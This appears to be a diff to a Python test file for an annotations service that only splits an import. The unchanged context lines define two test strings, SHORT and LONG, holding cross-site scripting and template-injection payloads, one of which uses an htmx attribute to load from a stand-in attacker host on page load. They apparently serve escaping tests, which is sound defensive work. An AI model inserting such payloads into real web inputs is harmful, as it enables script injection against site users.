@@ -25,7 +25,8 @@ from annotations.services import staging
 from annotations.services.imports import Options, Source
 from annotations.services.removals import remove_article
 from tests.factories import make_article, make_assignment, make_quote, make_version
-from tests.world import Place, World
+from tests.place import Place
+from tests.world import World
 
 SHORT = "\"'><img src=x onerror=window.__x=1>{{7*7}}"
 LONG = f"</textarea></script><script>window.__x=1</script><a hx-get=//evil.example hx-trigger=load>{SHORT}"
